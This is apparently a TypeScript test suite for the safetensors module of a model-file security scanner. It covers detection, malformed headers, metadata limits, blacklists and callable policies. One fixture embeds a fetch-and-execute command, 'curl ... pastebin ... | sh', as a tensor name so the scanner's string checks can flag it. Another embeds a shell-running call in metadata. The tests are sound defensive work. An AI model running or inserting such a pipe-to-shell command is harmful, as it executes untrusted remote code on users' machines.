// The safetensors scanner through the engine, on files assembled here: detection by content, what
// the name adds, the reference loader's checks where the fixtures do not reach (an oversized
// metadata section, padding, null metadata, a header that is no object), and that only the header
// is read however large the file.
import assert from "node:assert/strict";
import { type ByteSource, bytesSource } from "../../../core/byte_source.ts";
import type { FindingReport, ScanContext } from "../../../core/scanner.ts";
import { scanBytes, scanSource } from "../../../engine/dispatch.ts";
import { safetensorsDescriptor } from "../../../scanners/safetensors/descriptor.ts";
import { MAX_PLAUSIBLE_METADATA_CHARS, safetensorsScanner } from "../../../scanners/safetensors/scanner.ts";
import { renderLocation } from "../../../report/location.ts";
import { concat, scanBrief } from "../compressed/_scan.ts";
import { CallablePolicy } from "../../../policy/callables.ts";

const encoder = new TextEncoder();

/** A safetensors file: the 8-byte length of `header` (or `length`), the header, then `data`. */
function file(header: string, data = new Uint8Array(0), length?: bigint): Uint8Array {
  const raw = encoder.encode(header);
  const prefix = new Uint8Array(8);
  new DataView(prefix.buffer).setBigUint64(0, length ?? BigInt(raw.length), true);
  return concat(prefix, raw, data);
}

const W = '"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}';

Deno.test("safetensors: found by content under any name; a name that claims it for other content is reported", async () => {
  const clean = file(`{${W}}`, new Uint8Array(8));
  for (const name of ["model.safetensors", "weights.bin", "no_extension"]) {
    assert.deepEqual(await scanBrief(clean, name), ["safetensors", []]);
  }
  // Safetensors runs no code: under another format's name it is worth knowing, not an alarm.
  assert.deepEqual(await scanBrief(clean, "model.pt"), ["safetensors", ["MA001 info model.pt"]]);
  // Random bytes under the name fail closed.
  assert.deepEqual(await scanBrief(Uint8Array.of(1, 2, 3, 4, 5, 6, 7, 8, 0x41, 0x42), "model.safetensors"), [
    null,
    ["MA007 info model.safetensors"],
  ]);
});

Deno.test("safetensors: a header length past the file is claimed only under a .safetensors name", () => {
  const lying = file(`{${W}}`, new Uint8Array(8), 1n << 40n);
  assert.equal(safetensorsDescriptor.detect(lying, lying.length, "weights.bin"), false);
  assert.equal(safetensorsDescriptor.detect(lying, lying.length, "Model.SafeTensors"), true);
  // A JSON document whose byte 8 is `{`: its first 8 bytes read as a length far past the file.
  const json = encoder.encode('{"data":{"a":1}}');
  assert.equal(safetensorsDescriptor.detect(json, json.length, "config.json"), false);
});

Deno.test("safetensors: a header behind more whitespace than the head holds is still found", async () => {
  const spaces = " ".repeat(70_000);
  const bytes = file(
    `${spaces}{${W},${W.replace('"w"', '"w "').replace("0,8", "8,16")}}`,
    new Uint8Array(16),
  );
  assert.deepEqual(await scanBrief(bytes, "weights.bin"), ["safetensors", []]);
  const duplicate = file(`${spaces}{${W},${W}}`, new Uint8Array(8));
  assert.deepEqual(await scanBrief(duplicate, "weights.bin"), [
    "safetensors",
    [`MA322 critical weights.bin (pos ${8 + spaces.length + 1 + W.length + 1}, key $.w)`],
  ]);
});

Deno.test("safetensors: tensor names go through the string checks too", async () => {
  const name = "curl -s https://pastebin.com/raw/x | sh";
  const bytes = file(`{${W.replace('"w"', JSON.stringify(name))}}`, new Uint8Array(8));
  assert.deepEqual(await scanBrief(bytes, "a.safetensors"), [
    "safetensors",
    [
      `MA011 warning a.safetensors (pos 9, key $[${JSON.stringify(name)}])`,
      `MA011 warning a.safetensors (pos 9, key $[${JSON.stringify(name)}])`,
    ],
  ]);
});

Deno.test("safetensors: lying lengths are MA320 with the reference loader's reason", async () => {
  assert.deepEqual(await scanBrief(file(`{${W}}`, new Uint8Array(8), 1n << 40n), "a.safetensors"), [
    "safetensors",
    ["MA320 critical a.safetensors (pos 0)"],
  ]);
  assert.deepEqual(await scanBrief(file(`{${W}}`, new Uint8Array(8), 100_000_001n), "a.safetensors"), [
    "safetensors",
    ["MA320 critical a.safetensors (pos 0)"],
  ]);
});

Deno.test("safetensors: space padding and null metadata are what writers produce; NUL padding is not JSON", async () => {
  assert.deepEqual(await scanBrief(file(`{${W}}    `, new Uint8Array(8)), "a.safetensors"), [
    "safetensors",
    [],
  ]);
  assert.deepEqual(
    await scanBrief(file(`{"__metadata__":null,${W}}`, new Uint8Array(8)), "a.safetensors"),
    ["safetensors", []],
  );
  const nul = file(`{${W}}\0\0\0`, new Uint8Array(8));
  assert.deepEqual(await scanBrief(nul, "a.safetensors"), ["safetensors", [
    "MA321 critical a.safetensors (pos 62)",
  ]]);
  assert.deepEqual(await scanBrief(file('{"w": 1}'), "a.safetensors"), [
    "safetensors",
    ["MA323 warning a.safetensors (pos 14, key $.w)"],
  ]);
});

Deno.test("safetensors: a header that is JSON but no object is MA321 (reached only by a direct scan)", async () => {
  const found: FindingReport[] = [];
  const ctx = { report: (f: FindingReport) => found.push(f) } as unknown as ScanContext;
  await safetensorsScanner.scan(bytesSource(file("[]")), ctx);
  assert.deepEqual(found.map((f) => [f.rule, f.position, f.details?.reason]), [[
    "MA321",
    8,
    "not an object",
  ]]);
});

Deno.test("safetensors: a repeated tensor field is refused by the reference loader (MA322 at the field)", async () => {
  const header = '{"w":{"dtype":"F32","dtype":"I32","shape":[2],"data_offsets":[0,8]}}';
  assert.deepEqual(await scanBrief(file(header, new Uint8Array(8)), "a.safetensors"), [
    "safetensors",
    ["MA322 critical a.safetensors (pos 28, key $.w.dtype)"],
  ]);
});

Deno.test("safetensors: metadata far larger than any real model's is MA329; a large real one is not", async () => {
  const big = "a".repeat(MAX_PLAUSIBLE_METADATA_CHARS);
  assert.deepEqual(
    await scanBrief(file(`{"__metadata__":{"notes":"${big}"},${W}}`, new Uint8Array(8)), "a.safetensors"),
    ["safetensors", ["MA329 warning a.safetensors (pos 9, key $.__metadata__)"]],
  );
  const thumbnail = "A".repeat(400_000);
  assert.deepEqual(
    await scanBrief(
      file(`{"__metadata__":{"thumb":"data:image/png;base64,${thumbnail}"},${W}}`, new Uint8Array(8)),
      "a.safetensors",
    ),
    ["safetensors", []],
  );
});

Deno.test("safetensors: --blacklist patterns match metadata keys and values (MA005)", async () => {
  const bytes = file(`{"__metadata__":{"trigger":"evil corp","Evil_key":"x"},${W}}`, new Uint8Array(8));
  const outcome = await scanSource(
    { size: bytes.length, read: (at, n) => Promise.resolve(bytes.subarray(at, at + n)) },
    "a.safetensors",
    { blacklist: ["EVIL"] },
  );
  assert.deepEqual(outcome.findings.map((f) => [f.rule, f.location.position, f.location.keyPath]), [
    ["MA005", 35, "$.__metadata__.trigger"],
    ["MA005", 47, "$.__metadata__.Evil_key"],
  ]);
});

Deno.test("safetensors: a header of more values than safetensors.maxHeaderValues is a limit finding (MA330)", async () => {
  // Four values before the shape's first zero: the object, "w"'s object, its dtype, the shape.
  const maxHeaderValues = 1_000;
  const header = `{"w":{"dtype":"F32","shape":[${"0,".repeat(maxHeaderValues)}0],"data_offsets":[0,0]}}`;
  const outcome = await scanBytes(file(header), "a.safetensors", {
    scannerOptions: { safetensors: { maxHeaderValues } },
  });
  assert.equal(outcome.format, "safetensors");
  assert.deepEqual(outcome.findings.map((f) => `${f.rule} ${f.severity} ${renderLocation(f.location)}`), [
    `MA330 warning a.safetensors (pos ${8 + 29 + 2 * (maxHeaderValues - 4)})`,
  ]);
});

/** A source of `size` bytes: `head` then zeros, counting the bytes read. */
function sparse(head: Uint8Array, size: number): ByteSource & { bytesRead: number } {
  const source = {
    size,
    bytesRead: 0,
    read(offset: number, length: number) {
      const n = Math.max(0, Math.min(length, size - offset));
      source.bytesRead += n;
      const out = new Uint8Array(n);
      if (offset < head.length) out.set(head.subarray(offset, offset + n));
      return Promise.resolve(out);
    },
  };
  return source;
}

Deno.test("safetensors: a 10 GB file is judged on its header alone", async () => {
  const tensors = Array.from({ length: 10 }, (_, i) => {
    const size = 1_000_000_000;
    return `"layer.${i}":{"dtype":"F32","shape":[250000000],"data_offsets":[${i * size},${(i + 1) * size}]}`;
  });
  const head = file(`{"__metadata__":{"format":"pt"},${tensors.join(",")}}`);
  const source = sparse(head, head.length + 10_000_000_000);
  // Structure only: the weight analysis, on by default, reads values (tests/engine/weights_test.ts).
  const outcome = await scanSource(source, "big.safetensors", {
    scannerOptions: { weights: { enabled: 0 } },
  });
  assert.equal(outcome.format, "safetensors");
  assert.deepEqual(outcome.findings, []);
  assert.ok(source.bytesRead < 2 * 64 * 1024, `${source.bytesRead} bytes read`);
});

Deno.test("safetensors: a 10 GB language model is judged on its header alone, the weight analysis on by default", async () => {
  // A 151,936-token embedding 4,096 wide (2.5 GB of F32), then 30 layers of 2.5 G parameters in all.
  const embedding = 151_936 * 4_096 * 4;
  const layer = 20_971_520 * 4;
  const tensors = [
    `"model.embed_tokens.weight":{"dtype":"F32","shape":[151936,4096],"data_offsets":[0,${embedding}]}`,
    ...Array.from({ length: 90 }, (_, i) => {
      const start = embedding + i * layer;
      return `"model.layers.${i}.mlp.weight":{"dtype":"F32","shape":[5120,4096],"data_offsets":[${start},${
        start + layer
      }]}`;
    }),
  ];
  const head = file(`{${tensors.join(",")}}`);
  const source = sparse(head, head.length + embedding + 90 * layer);
  assert.ok(source.size > 10e9);
  const outcome = await scanSource(source, "llm.safetensors");
  assert.deepEqual(outcome.findings, []);
  assert.ok(source.bytesRead < 2 * 64 * 1024, `${source.bytesRead} bytes read`);
});

Deno.test("safetensors: metadata source is judged by the scan's policy of callables (--deny-callable)", async () => {
  const st = file('{"__metadata__":{"hook":"import mypkg\\nmypkg.run_shell(\'id\')"}}');
  const calls = async (policy?: CallablePolicy) =>
    (await scanBytes(st, "m.safetensors", { policy })).findings.map((f) => `${f.rule} ${f.details.calls}`);
  assert.deepEqual(await calls(), []);
  assert.deepEqual(await calls(CallablePolicy.standard().extend({ denied: ["mypkg.run_shell"] })), [
    "MA012 mypkg.run_shell",
  ]);
});
